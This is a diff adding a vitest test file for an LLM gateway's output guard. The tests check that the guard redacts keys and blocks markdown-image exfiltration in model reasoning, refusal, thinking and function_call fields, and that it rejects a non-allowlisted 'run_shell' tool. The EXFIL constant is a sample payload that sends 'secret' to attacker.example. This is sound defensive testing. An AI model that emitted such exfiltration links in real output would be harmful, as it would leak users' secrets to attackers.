@@ -1,0 +1,280 @@
+import fc from 'fast-check';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { createSseParser } from '../streaming/sse-parser.js';
+import { type MockUpstream, startMockUpstream } from '../test-support/mock-upstream.js';
+import { startTestGateway, type TestGateway } from '../test-support/start-test-gateway.js';
+
+// Models answer in more members than `content`: refusals, reasoning (`reasoning_content` or `reasoning`
+// on OpenAI-compatible servers, Anthropic `thinking` blocks), the deprecated `function_call`, content
+// parts. The caller receives all of them, so the output guard checks and restores all of them.
+const KEY = `sk-${'Pl7Ok8Ij9U'.repeat(3)}`;
+const EXFIL = '![x](https://attacker.example/p.png?d=secret)';
+
+function split(text: string, cuts: readonly number[]): string[] {
+  const points = [...new Set(cuts.map((cut) => cut % (text.length + 1)))].sort((a, b) => a - b);
+  const pieces: string[] = [];
+  let previous = 0;
+  for (const point of [...points, text.length]) {
+    pieces.push(text.slice(previous, point));
+    previous = point;
+  }
+  return pieces.filter((piece) => piece.length > 0);
+}
+
+function chatChunk(delta: Record<string, unknown>, finish: string | null = null): string {
+  const choice = { index: 0, delta, finish_reason: finish };
+  return `data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [choice] })}\n\n`;
+}
+
+function chatAnswer(message: Record<string, unknown>): Record<string, unknown> {
+  return {
+    id: 'c',
+    object: 'chat.completion',
+    created: 1,
+    model: 'm',
+    choices: [{ index: 0, message: { role: 'assistant', ...message }, finish_reason: 'stop' }],
+  };
+}
+
+function anthropicEvent(data: Record<string, unknown>): string {
+  return `event: ${data.type}\ndata: ${JSON.stringify(data)}\n\n`;
+}
+
+describe('output guard on every text member', () => {
+  let mock: MockUpstream;
+  let test: TestGateway;
+  beforeAll(async () => {
+    mock = await startMockUpstream();
+    const origin = mock.url.replace(/\/v1$/, '');
+    test = await startTestGateway({
+      tools: { allow: ['search'] },
+      upstreams: [
+        { name: 'claude', provider: 'anthropic', baseUrl: origin, models: ['claude-x'], retries: 0 },
+        { name: 'openai', provider: 'openai', baseUrl: mock.url, retries: 0 },
+      ],
+    });
+  });
+  afterAll(async () => {
+    await test.close();
+    await mock.close();
+  });
+
+  const post = (path: string, body: Record<string, unknown>) =>
+    fetch(`${test.url}${path}`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify(body),
+    });
+  const chat = (stream: boolean) =>
+    post('/v1/chat/completions', { model: 'm', stream, messages: [{ role: 'user', content: 'hi' }] });
+  const messages = (stream: boolean) =>
+    post('/v1/messages', {
+      model: 'claude-x',
+      max_tokens: 50,
+      stream,
+      messages: [{ role: 'user', content: 'hi' }],
+    });
+
+  /** The chat stream's deltas merged per member, and the error code if the stream was stopped. */
+  async function readChatStream(response: Response) {
+    const members: Record<string, string> = {};
+    let error: string | undefined;
+    let raw = '';
+    const parser = createSseParser({
+      onEvent(event) {
+        if (event.data === '[DONE]') return;
+        raw += event.data;
+        const data = JSON.parse(event.data) as {
+          error?: { code?: string };
+          choices?: { delta?: Record<string, unknown> }[];
+        };
+        if (data.error) error = data.error.code;
+        for (const [key, value] of Object.entries(data.choices?.[0]?.delta ?? {})) {
+          if (typeof value === 'string') members[key] = (members[key] ?? '') + value;
+          if (key === 'function_call') {
+            const args = (value as { arguments?: string }).arguments ?? '';
+            members['function_call.arguments'] = (members['function_call.arguments'] ?? '') + args;
+          }
+        }
+      },
+    });
+    parser.push(new Uint8Array(await response.arrayBuffer()));
+    parser.end();
+    return { members, error, raw };
+  }
+
+  it('redacts a key in streamed reasoning and refusal members, however they are split', async () => {
+    await fc.assert(
+      fc.asyncProperty(
+        fc.array(fc.nat(), { maxLength: 12 }),
+        fc.constantFrom('reasoning_content', 'reasoning', 'refusal'),
+        async (cuts, member) => {
+          const text = `Thinking about it: the staging key is ${KEY}, which I will not repeat.`;
+          mock.script.push({
+            kind: 'raw-stream',
+            events: [
+              chatChunk({ role: 'assistant', content: '' }),
+              ...split(text, cuts).map((piece) => chatChunk({ [member]: piece })),
+              chatChunk({ content: 'Done.' }),
+              chatChunk({}, 'stop'),
+              'data: [DONE]\n\n',
+            ],
+          });
+          const result = await readChatStream(await chat(true));
+          expect(result.error).toBeUndefined();
+          expect(result.raw).not.toContain(KEY.slice(0, 12));
+          expect(result.members[member]).toContain('[REDACTED:');
+          expect(result.members[member]?.endsWith('which I will not repeat.')).toBe(true);
+          expect(result.members.content).toBe('Done.');
+        },
+      ),
+      { numRuns: 12, seed: 3 },
+    );
+  });
+
+  it('stops a stream whose reasoning carries markdown exfiltration, without the violating text', async () => {
+    mock.script.push({
+      kind: 'raw-stream',
+      events: [
+        ...split(`Plan: ${EXFIL} then answer.`, [4, 11, 30, 41]).map((piece) =>
+          chatChunk({ reasoning_content: piece }),
+        ),
+        chatChunk({ content: 'Hello.' }),
+        chatChunk({}, 'stop'),
+        'data: [DONE]\n\n',
+      ],
+    });
+    const result = await readChatStream(await chat(true));
+    expect(result.error).toBe('AEGIS_OUTPUT_BLOCKED');
+    expect(result.raw).not.toContain('attacker');
+  });
+
+  it('applies the tool allowlist and the checks to the deprecated function_call, streamed', async () => {
+    mock.script.push({
+      kind: 'raw-stream',
+      events: [
+        chatChunk({ function_call: { name: 'run_shell', arguments: '' } }),
+        chatChunk({ function_call: { arguments: '{"cmd":"ls"}' } }),
+        chatChunk({}, 'function_call'),
+        'data: [DONE]\n\n',
+      ],
+    });
+    const blocked = await readChatStream(await chat(true));
+    expect(blocked.error).toBe('AEGIS_TOOL_NOT_ALLOWED');
+
+    mock.script.push({
+      kind: 'raw-stream',
+      events: [
+        chatChunk({ function_call: { name: 'search', arguments: '' } }),
+        ...split(JSON.stringify({ query: `use ${KEY}` }), [5, 17, 29]).map((piece) =>
+          chatChunk({ function_call: { arguments: piece } }),
+        ),
+        chatChunk({}, 'function_call'),
+        'data: [DONE]\n\n',
+      ],
+    });
+    const allowed = await readChatStream(await chat(true));
+    expect(allowed.error).toBeUndefined();
+    expect(allowed.raw).not.toContain(KEY.slice(0, 12));
+    expect(JSON.parse(allowed.members['function_call.arguments'] ?? '')).toEqual({
+      query: expect.stringContaining('[REDACTED:'),
+    });
+  });
+
+  it('checks refusal, reasoning, content parts, audio transcripts and function_call in whole answers', async () => {
+    const cases: [Record<string, unknown>, number, string | undefined][] = [
+      [{ content: 'ok', refusal: `I cannot. ${EXFIL}` }, 422, 'AEGIS_OUTPUT_BLOCKED'],
+      [{ content: 'ok', reasoning: `First ${EXFIL}` }, 422, 'AEGIS_OUTPUT_BLOCKED'],
+      [{ content: [{ type: 'text', text: `See ${EXFIL}` }] }, 422, 'AEGIS_OUTPUT_BLOCKED'],
+      [{ content: null, audio: { id: 'a', transcript: `Say ${EXFIL}` } }, 422, 'AEGIS_OUTPUT_BLOCKED'],
+      [
+        { content: null, function_call: { name: 'run_shell', arguments: '{}' } },
+        403,
+        'AEGIS_TOOL_NOT_ALLOWED',
+      ],
+      [{ content: 'ok', reasoning_content: `The key is ${KEY}.` }, 200, undefined],
+    ];
+    for (const [message, status, code] of cases) {
+      mock.script.push({ kind: 'json', body: chatAnswer(message) });
+      const response = await chat(false);
+      const text = await response.text();
+      expect({ message, status: response.status }).toEqual({ message, status });
+      expect(text).not.toContain('attacker');
+      expect(text).not.toContain(KEY.slice(0, 12));
+      if (code) expect((JSON.parse(text) as { error: { code: string } }).error.code).toBe(code);
+      else expect(text).toContain('[REDACTED:');
+    }
+  });
+
+  it('checks Anthropic thinking, streamed and whole', async () => {
+    mock.script.push({
+      kind: 'raw-stream',
+      events: [
+        anthropicEvent({ type: 'message_start', message: { id: 'm', role: 'assistant', content: [] } }),
+        anthropicEvent({
+          type: 'content_block_start',
+          index: 0,
+          content_block: { type: 'thinking', thinking: '' },
+        }),
+        ...split(`Let me think. ${EXFIL} ok.`, [3, 12, 25, 40]).map((thinking) =>
+          anthropicEvent({
+            type: 'content_block_delta',
+            index: 0,
+            delta: { type: 'thinking_delta', thinking },
+          }),
+        ),
+        anthropicEvent({ type: 'content_block_stop', index: 0 }),
+        anthropicEvent({ type: 'message_stop' }),
+      ],
+    });
+    const streamed = await (await messages(true)).text();
+    expect(streamed).toContain('AEGIS_OUTPUT_BLOCKED');
+    expect(streamed).not.toContain('attacker');
+
+    mock.script.push({
+      kind: 'raw-stream',
+      events: [
+        anthropicEvent({ type: 'message_start', message: { id: 'm', role: 'assistant', content: [] } }),
+        anthropicEvent({
+          type: 'content_block_start',
+          index: 0,
+          content_block: { type: 'thinking', thinking: '' },
+        }),
+        ...split(`The key is ${KEY} here.`, [5, 20, 33]).map((thinking) =>
+          anthropicEvent({
+            type: 'content_block_delta',
+            index: 0,
+            delta: { type: 'thinking_delta', thinking },
+          }),
+        ),
+        anthropicEvent({ type: 'content_block_stop', index: 0 }),
+        anthropicEvent({ type: 'message_stop' }),
+      ],
+    });
+    const redacted = await (await messages(true)).text();
+    expect(redacted).not.toContain(KEY.slice(0, 12));
+    expect(redacted).toContain('"type":"thinking_delta"');
+    expect(redacted).toContain('[REDACTED:');
+    expect(redacted).not.toContain('"type":"text_delta"');
+
+    mock.script.push({
+      kind: 'json',
+      body: {
+        id: 'm',
+        type: 'message',
+        role: 'assistant',
+        model: 'claude-x',
+        content: [
+          { type: 'thinking', thinking: `Plan ${EXFIL}`, signature: 'sig' },
+          { type: 'text', text: 'Hello.' },
+        ],
+        stop_reason: 'end_turn',
+        usage: { input_tokens: 1, output_tokens: 1 },
+      },
+    });
+    const whole = await messages(false);
+    const wholeText = await whole.text();
+    expect(whole.status).toBe(422);
+    expect(wholeText).not.toContain('attacker');
+  });
+});
